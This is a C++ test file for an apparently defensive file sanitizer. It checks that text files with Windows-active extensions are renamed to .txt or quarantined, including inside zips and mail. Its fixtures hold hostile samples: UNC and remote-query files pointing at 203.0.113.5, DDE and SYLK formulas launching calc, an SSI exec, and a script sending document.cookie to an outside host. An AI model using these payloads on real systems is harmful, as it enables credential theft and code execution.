// Plain text may cross only under a name no Windows program acts on (.txt, .log; CSV also .csv and
// .tsv; a rebuilt mail .eml). Every other name gets ".txt" appended, at every depth: inputs, zip
// members, mail attachments, zips in mails in zips. Nested outputs are read back with Python's
// zipfile and email packages (tests/support/leaf_names.py), not with our own readers.
#include <doctest/doctest.h>

#include <nlohmann/json.hpp>

#include "fixtures.hpp"
#include "mugaika/engine.hpp"
#include "mugaika/names.hpp"

using namespace mugaika;
using namespace mugaika::test;

namespace {

const Engine& engine() {
    static Engine e(builtin_registry(), Policy::defaults());
    return e;
}

Engine keep_names_engine() {
    Policy p = Policy::defaults();
    p.name_mismatch = NameMismatch::keep;
    return Engine(builtin_registry(), p);
}

bool has(const Outcome& o, const std::string& kind) {
    for (const auto& f : o.findings)
        if (f.kind == kind) return true;
    return false;
}

std::string last_extension(const std::string& name) {
    auto dot = name.rfind('.');
    std::string ext = dot == std::string::npos ? "" : name.substr(dot + 1);
    for (char& c : ext) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
    return ext;
}

// What the issue lists, and more of the same class: Windows formats that are text inside and act
// through their extension (queries, connections, UNC fetches, scripts in markup).
const std::vector<std::pair<std::string, std::string>> kShellText{
    {"query.iqy", "WEB\r\n1\r\nhttps://203.0.113.5/data?x=1\r\n"},
    {"query.dqy", "XLODBC\r\n1\r\nDSN=evil;\r\nSELECT 1\r\n"},
    {"query.rqy", "[Query]\r\nConnection=http://203.0.113.5/\r\n"},
    {"connect.rdp", "full address:s:203.0.113.5:3389\r\nprompt for credentials:i:0\r\n"},
    {"look.theme", "[Theme]\r\nDisplayName=Blue\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\203.0.113.5\\share\\a.jpg\r\n"},
    {"look.themepack", "[Theme]\r\nWallpaper=\\\\203.0.113.5\\share\\b.jpg\r\n"},
    {"box.wsb", "<Configuration><LogonCommand><Command>calc</Command></LogonCommand></Configuration>\r\n"},
    {"app.desktop", "[Desktop Entry]\r\nType=Link\r\nURL=file://203.0.113.5/share\r\n"},
    {"sheet.slk", "ID;PWXL;N;E\r\nC;X1;Y1;EEXEC(\"calc\")\r\nE\r\n"},
    {"folder.ini", "[.ShellClassInfo]\r\nIconResource=\\\\203.0.113.5\\share\\icon.ico,0\r\n"},
    {"notes.md", "# 議事録\r\n\r\n<img src=\"https://203.0.113.5/t.png\">\r\n"},
    {"data.json", "{\"a\": \"=cmd|' /c calc'!A0\"}\r\n"},
    {"page.shtml", "お知らせ\r\n<!--#exec cmd=\"calc\" -->\r\n"},
    {"page.xht", "お知らせです\r\n<script>alert(1)</script>\r\n"},
    {"link.url", "[InternetShortcut]\r\nURL=file://203.0.113.5/share/x.exe\r\n"},
    {"scf.scf", "[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.5\\share\\i.ico\r\n"},
    {"lib.library-ms", "お知らせ <searchConnectorDescription> \\\\203.0.113.5\\share\r\n"},
    {"s.searchConnector-ms", "お知らせ \\\\203.0.113.5\\share\r\n"},
    {"s.settingcontent-ms", "お知らせ calc.exe\r\n"},
    {"w.website", "[InternetShortcut]\r\nURL=https://203.0.113.5/\r\n"},
    {"a.appref-ms", "https://203.0.113.5/app.application#app.application, Culture=neutral\r\n"},
    {"setup.inf", "[Version]\r\nSignature=\"$Windows NT$\"\r\n[DefaultInstall]\r\nRunPostSetupCommands=run\r\n"},
    {"x.reg", "お知らせ HKEY_CURRENT_USER\\Software\r\n"},
    {"x.cfg", "server=203.0.113.5\r\n"},
    {"x.bat.txt", "これはテキストです\r\n"},
};

}  // namespace

TEST_CASE("text names: text under any name outside the allowlist crosses only as .txt, or not at all") {
    for (const auto& [name, content] : kShellText) {
        CAPTURE(name);
        Outcome o = engine().process(content, name);
        if (o.quarantined()) {
            // Held: the dangerous-name check (.url, .scf, .inf, ...), or content libmagic knows as
            // something else (SYLK, desktop.ini): never crosses at all.
            CHECK(o.outputs.empty());
            if (o.detected_type == "text") CHECK(o.reason == "blocked.name");
            continue;
        }
        REQUIRE(o.outputs.size() == 1);
        const std::string& out = o.outputs[0].name;
        if (o.detected_type == "html" || o.detected_type == "xml") {
            // Markup has sanitizers of its own (docs/legacy.md): HTML becomes plain text (.txt), XML is
            // written anew without DTD, entities or processing instructions (.xml). Either way the
            // output carries its type's extension, never the input's (.wsb, .xht, ...).
            CHECK(last_extension(out) == (o.detected_type == "html" ? "txt" : "xml"));
            CHECK(o.verdict == Verdict::disarmed);
            continue;
        }
        CHECK(o.outputs[0].type == "text");
        CHECK((last_extension(out) == "txt" || last_extension(out) == "log"));
        if (last_extension(name) != "txt") {
            CHECK(out == name + ".txt");
            CHECK(has(o, "name.renamed"));
            CHECK(o.verdict == Verdict::disarmed);
        } else {
            CHECK(out == name);
        }
    }
    // The shell formats this list cannot block are still renamed, not released under their name.
    for (const char* n : {"query.iqy", "connect.rdp", "look.theme", "box.wsb", "app.desktop", "sheet.slk", "page.shtml"}) {
        Outcome o = engine().process("plain words\r\n", n);
        REQUIRE(o.outputs.size() == 1);
        CHECK(o.outputs[0].name == std::string(n) + ".txt");
    }
}

TEST_CASE("text names: case, trailing dots and spaces, double extensions and missing extensions") {
    const std::vector<std::pair<std::string, std::string>> cases{
        {"Query.IQY", "Query.IQY.txt"},
        {"Connect.Rdp", "Connect.Rdp.txt"},
        {"query.iqy.", "query.iqy.txt"},
        {"query.iqy . .", "query.iqy.txt"},
        {"connect.rdp   ", "connect.rdp.txt"},
        {"report.txt.rdp", "report.txt.rdp.txt"},
        {"report.rdp.txt", "report.rdp.txt"},
        {"README", "README.txt"},
        {".profile", "profile.txt"},
        {"notes.TXT", "notes.TXT"},
        {"server.Log", "server.Log"},
        {"memo.txt . ", "memo.txt"},
        {"memo.text", "memo.text.txt"},
        {"a.iqy\xE3\x80\x80", "a.iqy\xE3\x80\x80.txt"},   // a trailing ideographic space Windows keeps
        {"a.txt:evil.rdp", "a.txt_evil.rdp.txt"},
    };
    for (const auto& [in, expected] : cases) {
        CAPTURE(in);
        Outcome o = engine().process("お知らせ\r\n", in);
        REQUIRE(o.outputs.size() == 1);
        CHECK(o.outputs[0].name == expected);
        CHECK(has(o, "name.renamed") == (last_extension(check_name(in).safe_name) != "txt" &&
                                         last_extension(check_name(in).safe_name) != "log"));
    }
}

TEST_CASE("text names: a <script> after 5 KB of prose is text, and never crosses under a markup name") {
    std::string prose;
    while (prose.size() < 5200) prose += "本日の会議資料を送付いたします。ご確認ください。\r\n";
    std::string doc = prose + "<script>location='https://203.0.113.5/'+document.cookie</script>\r\n";
    Engine keep = keep_names_engine();
    for (const char* name : {"a.html", "a.htm", "a.shtml", "a.xht", "a.xhtml", "a.mht", "a.mhtml", "a.svg", "a.hta", "a.xml", "a.xsl"}) {
        CAPTURE(name);
        for (const Engine* e : {&engine(), static_cast<const Engine*>(&keep)}) {
            Outcome o = e->process(doc, name);
            if (o.quarantined()) {
                CHECK(o.reason == "blocked.name");   // .hta
                continue;
            }
            CHECK(o.detected_type == "text");
            REQUIRE(o.outputs.size() == 1);
            CHECK(last_extension(o.outputs[0].name) == "txt");
            CHECK(o.verdict == Verdict::disarmed);
        }
    }
}

TEST_CASE("text names: names on the allowlist stay as they are") {
    for (const char* name : {"memo.txt", "app.log", "議事録.TXT"}) {
        Outcome o = engine().process("お知らせ\r\n", name);
        REQUIRE(o.outputs.size() == 1);
        CHECK(o.verdict == Verdict::released);
        CHECK(o.outputs[0].name == name);
        CHECK_FALSE(has(o, "name.renamed"));
    }
    Outcome csv = engine().process("a,b\r\n1,2\r\n", "list.csv");
    REQUIRE(csv.outputs.size() == 1);
    CHECK(csv.outputs[0].name == "list.csv");
    Outcome tsv = engine().process("a\tb\r\n1\t2\r\n", "list.tsv");
    REQUIRE(tsv.outputs.size() == 1);
    CHECK(tsv.outputs[0].name == "list.tsv");
}

TEST_CASE("text names: CSV kept under a foreign name by policy still becomes .txt") {
    std::string csv = "氏名,金額\r\n山田,=1+1\r\n佐藤,200\r\n鈴木,300\r\n田中,400\r\n";
    Engine keep = keep_names_engine();
    for (const char* name : {"export.tab", "export.iqy", "export"}) {
        CAPTURE(name);
        Outcome o = keep.process(csv, name);
        REQUIRE(o.outputs.size() == 1);
        CHECK(last_extension(o.outputs[0].name) == "txt");
        CHECK(o.outputs[0].bytes.find(",=1+1") == std::string::npos);   // still neutralised
        CHECK(o.outputs[0].bytes.find("'=1+1") != std::string::npos);
    }
}

TEST_CASE("text names: the pure rule") {
    PlainTextNaming text{"txt log", "txt"};
    CHECK(plain_text_name("a.txt", text) == "a.txt");
    CHECK(plain_text_name("a.LOG", text) == "a.LOG");
    CHECK(plain_text_name("a.iqy", text) == "a.iqy.txt");
    CHECK(plain_text_name("a", text) == "a.txt");
    std::string long_name(max_name_bytes, 'x');
    std::string renamed = plain_text_name(long_name + ".rdp", text);
    CHECK(renamed.size() <= max_name_bytes);
    CHECK(renamed.ends_with(".txt"));
    const FileType* t = find_file_type("text");
    REQUIRE(t);
    REQUIRE(plain_text_naming(*t));
    CHECK(plain_text_naming(*find_file_type("pdf")) == nullptr);
}

namespace {

std::string mail_with(const std::vector<std::pair<std::string, std::string>>& attachments) {
    std::string m = "From: sender@example.co.jp\r\nTo: somu@city.example.lg.jp\r\nSubject: test\r\n"
                    "Date: Sun, 22 Nov 2026 10:00:00 +0900\r\nMessage-ID: <names1@example.co.jp>\r\nMIME-Version: 1.0\r\n"
                    "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n"
                    "--b\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
                    "資料を送ります。\r\n";
    for (const auto& [name, bytes] : attachments) {
        static const char* a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        std::string b64;
        for (std::size_t i = 0; i < bytes.size(); i += 3) {
            unsigned v = static_cast<unsigned char>(bytes[i]) << 16;
            if (i + 1 < bytes.size()) v |= static_cast<unsigned char>(bytes[i + 1]) << 8;
            if (i + 2 < bytes.size()) v |= static_cast<unsigned char>(bytes[i + 2]);
            b64 += a[(v >> 18) & 63];
            b64 += a[(v >> 12) & 63];
            b64 += i + 1 < bytes.size() ? a[(v >> 6) & 63] : '=';
            b64 += i + 2 < bytes.size() ? a[v & 63] : '=';
            if ((i / 3 + 1) % 19 == 0) b64 += "\r\n";
        }
        m += "--b\r\nContent-Type: application/octet-stream; name=\"" + name + "\"\r\nContent-Disposition: attachment; filename=\"" +
             name + "\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64 + "\r\n";
    }
    return m + "--b--\r\n";
}

// Every leaf (path, name) of an output, at every depth, read by Python's zipfile and email.
nlohmann::json leaves(const Output& out) {
    TempDir d;
    write_file(d / "out.bin", out.bytes);
    auto r = run("python3 " + shell_quote((source_dir() / "tests" / "support" / "leaf_names.py").string()) + " " +
                 shell_quote((d / "out.bin").string()) + " " + shell_quote(out.name));
    REQUIRE(r.status == 0);
    return nlohmann::json::parse(r.out);
}

bool leaf_named(const nlohmann::json& all, const std::string& name) {
    for (const auto& l : all)
        if (l["name"] == name) return true;
    return false;
}

// No leaf that is text carries a name outside the allowlist.
void check_text_leaves(const nlohmann::json& all) {
    for (const auto& l : all) {
        std::string ext = last_extension(l["name"].get<std::string>());
        CAPTURE(l["path"].get<std::string>());
        CHECK((ext == "txt" || ext == "log" || ext == "csv" || ext == "tsv" || ext == "pdf" || ext == "docx"));
    }
}

}  // namespace

TEST_CASE("text names: zip members are renamed inside the rebuilt zip") {
    std::string zip = make_zip({{"docs/query.iqy", "WEB\r\n1\r\nhttps://203.0.113.5/\r\n"},
                                {"docs/connect.rdp", "full address:s:203.0.113.5\r\n"},
                                {"docs/readme.txt", "お知らせ\r\n"},
                                {"docs/page.shtml", "お知らせ\r\n<!--#exec cmd=\"calc\" -->\r\n"}});
    Outcome o = engine().process(zip, "shiryo.zip");
    REQUIRE(o.outputs.size() == 1);
    auto all = leaves(o.outputs[0]);
    CHECK(all.size() == 4);
    check_text_leaves(all);
    CHECK(leaf_named(all, "query.iqy.txt"));
    CHECK(leaf_named(all, "connect.rdp.txt"));
    CHECK(leaf_named(all, "readme.txt"));
    CHECK(leaf_named(all, "page.shtml.txt"));
    CHECK(has(o, "name.renamed"));
}

TEST_CASE("text names: mail attachments are renamed in the safe mail") {
    std::string eml = mail_with({{"接続.rdp", "full address:s:203.0.113.5\r\n"},
                                 {"look.theme", "[Theme]\r\nWallpaper=\\\\203.0.113.5\\s\\a.jpg\r\n"},
                                 {"memo.txt", "お知らせ\r\n"}});
    Outcome o = engine().process(eml, "message.eml");
    REQUIRE_MESSAGE(!o.quarantined(), o.reason << " " << o.reason_detail);
    REQUIRE(o.outputs.size() == 1);
    auto all = leaves(o.outputs[0]);
    CHECK(all.size() == 3);
    check_text_leaves(all);
    CHECK(leaf_named(all, "接続.rdp.txt"));
    CHECK(leaf_named(all, "look.theme.txt"));
    CHECK(leaf_named(all, "memo.txt"));
}

TEST_CASE("text names: zip in a mail in a zip, renamed at the bottom") {
    std::string inner_zip = make_zip({{"q.iqy", "WEB\r\n1\r\nhttps://203.0.113.5/\r\n"}, {"note.txt", "メモ\r\n"}});
    std::string eml = mail_with({{"inner.zip", inner_zip}, {"x.desktop", "[Desktop Entry]\r\nType=Link\r\n"}});
    std::string outer = make_zip({{"mail/fwd.eml", eml}, {"top.wsb", "MappedFolders HostFolder C:\\Users\r\n"}});
    Outcome o = engine().process(outer, "outer.zip");
    REQUIRE_MESSAGE(!o.quarantined(), o.reason << " " << o.reason_detail);
    REQUIRE(o.outputs.size() == 1);
    auto all = leaves(o.outputs[0]);
    check_text_leaves(all);
    CHECK(leaf_named(all, "q.iqy.txt"));
    CHECK(leaf_named(all, "note.txt"));
    CHECK(leaf_named(all, "x.desktop.txt"));
    CHECK(leaf_named(all, "top.wsb.txt"));
    bool deep = false;
    for (const auto& l : all) deep = deep || l["path"].get<std::string>().find("fwd.eml/inner.zip/q.iqy.txt") != std::string::npos;
    CHECK(deep);
}
